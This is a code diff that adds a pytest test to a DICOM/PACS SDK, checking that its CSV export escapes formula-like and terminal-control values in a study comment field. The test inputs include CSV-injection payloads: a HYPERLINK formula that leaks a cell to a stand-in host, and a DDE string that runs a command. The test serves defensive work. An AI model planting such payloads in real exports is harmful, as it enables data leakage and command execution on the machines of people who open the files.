@@ -10,6 +10,7 @@ from contextlib import contextmanager
 import pytest
 import typer
 
+from pacs_sdk.cli.matches import print_matches
 from pacs_sdk.cli.options import Level
 from pacs_sdk.cli.query import COLUMNS, day_of
 from pacs_sdk.core import DicomDataset, DicomTag
@@ -104,6 +105,33 @@ def test_json_and_csv_are_as_the_peer_sent_it(peer: Peer) -> None:
     assert set(rows[0]) == set(COLUMNS[Level.STUDY])
     text = succeeded(pacs("find", *address(peer), "--csv", "-k", "PatientID=P1", "-k", "StudyDate"))
     assert text == "PatientID,StudyDate\nP1,20250110\n"
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        ('=HYPERLINK("http://x.example/?"&A1)', '\'=HYPERLINK("http://x.example/?"&A1)'),
+        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "' =1+1"),
+        ("\x1b[2Jname\x9b1m", " [2Jname 1m"),
+        ("-inf", "'-inf"),
+        ("-0.5\\+1e-3", "-0.5\\+1e-3"),
+        ("Doe-Smith=東^京", "Doe-Smith=東^京"),
+        ("two\nlines", "two\nlines"),
+        ("", ""),
+    ],
+)
+def test_a_cell_of_csv_is_no_formula(
+    value: str, cell: str, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """What a sender wrote is neither carried out by a spreadsheet nor by a terminal."""
+    match, tag = DicomDataset(StudyComments=value), DicomTag.of("StudyComments")
+    print_matches([match], [tag], as_json=False, as_csv=True)
+    rows = list(csv.reader(io.StringIO(capsys.readouterr().out, newline="")))
+    assert rows == [["StudyComments"], [cell]]
 
 
 @pytest.mark.parametrize(
